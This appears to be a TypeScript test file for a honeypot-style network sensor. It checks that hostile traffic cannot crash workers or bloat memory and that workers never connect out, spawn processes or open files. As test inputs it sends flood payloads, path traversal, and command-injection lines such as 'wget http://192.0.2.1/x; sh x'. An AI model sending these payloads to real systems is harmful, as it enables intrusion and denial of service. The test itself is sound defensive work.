/** What attackers do, against a real sensor: nothing kills more than its own connection, memory stays bounded, nothing goes out. */
import { spawn } from "node:child_process";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { connect } from "node:tls";
import { test } from "uvu";
import * as assert from "uvu/assert";
import { protocolFacts } from "../../src/config/services.js";
import { PROTOCOL_NAMES, type ProtocolName } from "../../src/protocols/registry.js";
import type { WorkerHealth } from "../../src/wire/control.js";
import { needs } from "../kit/debian.js";
import { readTranscripts } from "../kit/golden.js";
import { REPOSITORY } from "../kit/repository.js";
import { converse, startSensor } from "../kit/sensor.js";
import { TestPeer, until } from "../kit/socket.js";
import { inTemporaryFolder } from "../kit/temporary.js";

const IAC_BOMB = "\xff\xfa\x18".repeat(20_000) + "\xff\xfb\x01".repeat(20_000);
const SIDE_BY_SIDE = 40;
const facts = await protocolFacts();
const portOf = (name: ProtocolName) => facts.get(name)!.ports[0]!;
const noise = (length: number) =>
  Array.from({ length }, (_, index) => String.fromCharCode((index * 7919 + (index >> 3)) & 255)).join("");

test("hostile peers cost no more than their own connections", () =>
  inTemporaryFolder(async (folder) => {
    const sensor = await startSensor(folder, 21_000, "[telnet]\nconnections_per_peer_max = 20\nidle_timeout_ms = 2000\n");
    try {
      const pids = await Promise.all(PROTOCOL_NAMES.map((name) => sensor.pid(name)));
      for (const port of PROTOCOL_NAMES.map((name) => portOf(name) + 21_000)) {
        for (const say of [noise(50_000), "x".repeat(900_000), "\0".repeat(10_000), IAC_BOMB, "\r\n".repeat(50_000)])
          await converse(port, say, 100);
      }
      for (const port of [sensor.http, sensor.proxy]) {
        for (const say of [
          `GET / HTTP/1.1\r\n${"A: b\r\n".repeat(100_000)}\r\n`,
          `GET / HTTP/1.1\r\nX: ${"y".repeat(500_000)}\r\n\r\n`,
          `POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n${"1;a=b\r\nx\r\n".repeat(50_000)}`,
          "POST / HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n",
          "GET / HTTP/1.1\r\n\r\n".repeat(5000),
        ]) {
          await converse(port, say, 100);
        }
      }
      const crowd = await Promise.all(
        Array.from({ length: 500 }, () => TestPeer.connect(sensor.telnet, "127.0.0.1", "127.0.0.66")),
      );
      const health = async () => (await sensor.status()).processes.find(({ name }) => name === "telnet")?.health as WorkerHealth;
      await until(async () => (await health()).refused >= 480, "the refusals");
      const other = await TestPeer.connect(sensor.telnet, "127.0.0.1", "127.0.0.67");
      await other.hears("login: ");
      other.end();
      const deaf = await TestPeer.connect(sensor.http, "127.0.0.1", "127.0.0.68");
      deaf.socket.pause();
      deaf.send("GET / HTTP/1.1\r\n\r\n".repeat(20_000));
      assert.match(await converse(sensor.http, "GET / HTTP/1.0\r\n\r\n"), /^HTTP\/1\.[01] 401/);
      await until(async () => (await health()).sessions === 0, "the silent ones' deadline");
      for (const peer of [...crowd, deaf]) peer.end();
      assert.equal(await Promise.all(PROTOCOL_NAMES.map((name) => sensor.pid(name))), pids, "no worker died");
      for (const pid of pids) assert.ok(rssMiB(pid) < 160, `${rssMiB(pid)} MiB`);
    } finally {
      assert.is(await sensor.stop(), 0);
    }
  }));

if (needs("strace", "strace") && process.getuid?.() === 0) {
  test("whatever it is sent, a worker connects nowhere, starts nothing and opens no file", () =>
    inTemporaryFolder(async (folder) => {
      const sensor = await startSensor(folder, 22_000);
      const pids = await Promise.all(PROTOCOL_NAMES.map((name) => sensor.pid(name)));
      const calls = "connect,openat,open,creat,execve,fork,vfork,unlink,rename,mkdir,sendto,sendmmsg";
      const tracer = spawn("strace", ["-f", "-qq", "-e", `trace=${calls}`, ...pids.flatMap((pid) => ["-p", String(pid)])]);
      let traced = "";
      tracer.stderr.on("data", (chunk) => {
        traced += chunk;
      });
      try {
        await new Promise((resolve) => setTimeout(resolve, 500));
        // Proof that it would be seen: the collector's end makes workers connect to its socket anew.
        process.kill(await sensor.pid("collector"), "SIGKILL");
        await until(() => traced.includes("connect("), "a call that is seen");
        await until(async () => (await sensor.status()).processes.every(({ state }) => state === "up"), "the collector");
        await converse(sensor.proxy, "CONNECT 192.0.2.1:443 HTTP/1.1\r\n\r\n");
        await converse(sensor.proxy, "GET http://localhost:80/etc/passwd HTTP/1.1\r\nProxy-Authorization: Basic YTpi\r\n\r\n");
        await converse(sensor.http, "GET /cgi-bin/;wget+http://192.0.2.1/x HTTP/1.0\r\n\r\n");
        await converse(sensor.http, "GET /../../../../etc/passwd HTTP/1.0\r\nAuthorization: Basic YTpi\r\n\r\n");
        await converse(sensor.telnet, "root\r\n");
        await converse(sensor.telnet, "a\r\nwget http://192.0.2.1/x; sh x\r\n");
        await converse(22_000 + portOf("ftp"), "USER a\r\nPORT 192,0,2,1,0,22\r\nPASV\r\nRETR /etc/passwd\r\nSITE EXEC id\r\n");
        await converse(
          22_000 + portOf("smtp"),
          "EHLO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<root@[192.0.2.1]>\r\nVRFY root\r\n",
        );
        for (const { tlsPorts = [] } of facts.values()) for (const port of tlsPorts) await hello(22_000 + port);
        for (const name of PROTOCOL_NAMES) await recite(name, 22_000 + portOf(name));
        // The C library reads the time zone.
        const harmless = /AF_UNIX|resumed|"\/etc\/localtime", O_RDONLY/;
        const harmful = traced.split("\n").filter((line) => /\w\(/.test(line) && !harmless.test(line));
        assert.equal(harmful, []);
      } finally {
        tracer.kill("SIGINT");
        await once(tracer, "exit");
        await sensor.stop();
      }
    }));
}

/** Everything that the golden dialogues say, each on a connection of its own, without waiting for answers. */
async function recite(name: ProtocolName, port: number): Promise<void> {
  const dialogues = readTranscripts(join(REPOSITORY, "test", "golden", `${name}.json`));
  for (let at = 0; at < dialogues.length; at += SIDE_BY_SIDE) {
    const some = dialogues.slice(at, at + SIDE_BY_SIDE);
    await Promise.all(some.map(({ heard }) => converse(port, heard.map(({ send }) => send).join(""), 100)));
  }
}

/** A TLS handshake, and the end. */
async function hello(port: number): Promise<void> {
  const socket = connect({ port, host: "127.0.0.1", servername: "router.example", rejectUnauthorized: false });
  await once(socket, "secureConnect");
  socket.end("GET / HTTP/1.0\r\n\r\n");
  socket.on("error", () => {}).resume();
  await once(socket, "close");
}

function rssMiB(pid: number): number {
  return Number(/^VmRSS:\s+(\d+)/m.exec(readFileSync(`/proc/${pid}/status`, "latin1"))?.[1]) / 1024;
}

test.run();
